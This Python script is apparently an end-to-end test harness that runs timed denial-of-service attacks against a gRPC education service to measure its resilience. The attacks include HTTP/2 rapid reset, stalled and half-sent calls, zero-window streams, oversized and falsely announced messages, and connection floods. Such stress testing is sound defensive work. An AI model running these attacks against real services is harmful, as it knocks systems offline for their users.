# SPDX-License-Identifier: Apache-2.0
"""Attacks of one source, each for some seconds and to a bound; a process of their own, so that who is attacked is measured
and not who attacks.

    python attacks.py NAME TARGET plain|tls SECONDS

Prints how much it sent.
"""
import pathlib
import socket
import sys
import time

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))

from frames import (DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, RESET, Connection,  # noqa: E402
                    frame, headers, message)

SOURCE = "127.0.0.66"
SERVICE = "/edu.v1.EduService/"
WATCH = "/grpc.health.v1.Health/Watch"
CALLS = 1100


class Attacker:
    def __init__(self, target, tls, seconds):
        self.target, self.tls, self.until = target, tls, time.monotonic() + seconds
        self.sent, self.connections = 0, []

    def going_on(self):
        return time.monotonic() < self.until

    def connect(self, **settings):
        connection = Connection(self.target, source=SOURCE, tls=self.tls, **settings)
        self.connections.append(connection)
        return connection

    def hold(self, path, payload, end, **settings):
        """CALLS calls, a hundred a connection, none of which gets on; new ones once those are ended."""
        while self.going_on():
            try:
                for _ in range(CALLS // 100):
                    connection = self.connect(**settings)
                    for _ in range(100):
                        connection.begin(path, payload, end=end)
                        self.sent += 1
            except OSError:
                pass
            time.sleep(1)
            self.drop()

    def drop(self):
        for connection in self.connections:
            connection.close()
        self.connections.clear()

    def no_message(self):
        self.hold(SERVICE + "ListCourses", None, False)

    def half_message(self):
        self.hold(SERVICE + "GetCourse", b"\0\0\0\x10\0abc", False)

    def watch(self):
        self.hold(WATCH, message(b""), True)

    def unread(self):
        self.hold(SERVICE + "ListCourses", message(b""), True, **{f"_{INITIAL_WINDOW_SIZE}": 0})

    def reset(self, most=100000):
        """HTTP/2 rapid reset."""
        while self.going_on() and self.sent < most:
            try:
                connection = self.connect()
                for _ in range(50):
                    data = b""
                    for _ in range(100):
                        stream, connection.stream = connection.stream, connection.stream + 2
                        data += frame(HEADERS, END_HEADERS, stream, headers(SERVICE + "ListCourses"))
                        data += frame(DATA, END_STREAM, stream, message(b""))
                        data += frame(RESET, 0, stream, b"\0\0\0\x08")
                    connection.send(data)
                    self.sent += 100
            except OSError:
                pass
            self.drop()

    def streams(self, most=100000):
        """As many calls as are taken, on as few connections as can be; each is refused for what it lacks."""
        while self.going_on() and self.sent < most:
            try:
                connection = self.connect()
                while self.going_on() and self.sent < most:
                    first = connection.stream
                    for _ in range(100):
                        connection.begin(SERVICE + "GetCourse", message(b""))
                    self.sent += 100
                    wanted = set(range(first, connection.stream, 2))
                    while not connection.ended >= wanted and connection.read(lambda f: True, 5):
                        pass
            except OSError:
                pass
            self.drop()

    def announce(self, most=1 << 30):
        """One call announces 4 GiB and sends them, again and again; counts MiB."""
        taken = 0
        while self.going_on() and taken < most:
            try:
                connection = self.connect()
                stream = connection.begin(SERVICE + "ListCourses", b"\0\xff\xff\xff\xff", end=False)
                taken += connection.pump(stream, most - taken, 1) + 5
            except OSError:
                time.sleep(0.05)
            self.drop()
            self.sent = 1 + (taken >> 20)

    def large(self):
        """200 calls, each with all but the end of 4 MiB."""
        connection = None
        for n in range(200):
            if not self.going_on():
                break
            try:
                connection = self.connect() if n % 20 == 0 or not connection else connection
                stream = connection.begin(SERVICE + "UpdateUser", b"\0\0\x40\0\0", end=False)
                connection.pump(stream, (4 << 20) - 1, 0.05)
                self.sent += 1
            except OSError:
                connection = None
        while self.going_on():
            time.sleep(0.1)

    def connections_only(self, most=20000):
        """Connections that say nothing."""
        host, port = self.target.rsplit(":", 1)
        while self.going_on() and self.sent < most:
            try:
                self.connections.append(socket.create_connection((host, int(port)), 1, (SOURCE, 0)))
                self.sent += 1
            except OSError:
                time.sleep(0.01)
            if len(self.connections) >= 900:
                self.drop()


ATTACKS = {"reset": Attacker.reset, "streams": Attacker.streams, "no-message": Attacker.no_message,
           "half-message": Attacker.half_message, "watch": Attacker.watch, "unread": Attacker.unread,
           "announce": Attacker.announce, "large": Attacker.large, "connections": Attacker.connections_only}


def main():
    name, target, how, seconds = sys.argv[1:]
    attacker = Attacker(target, how == "tls", float(seconds))
    ATTACKS[name](attacker)
    attacker.drop()
    print(attacker.sent)


if __name__ == "__main__":
    main()
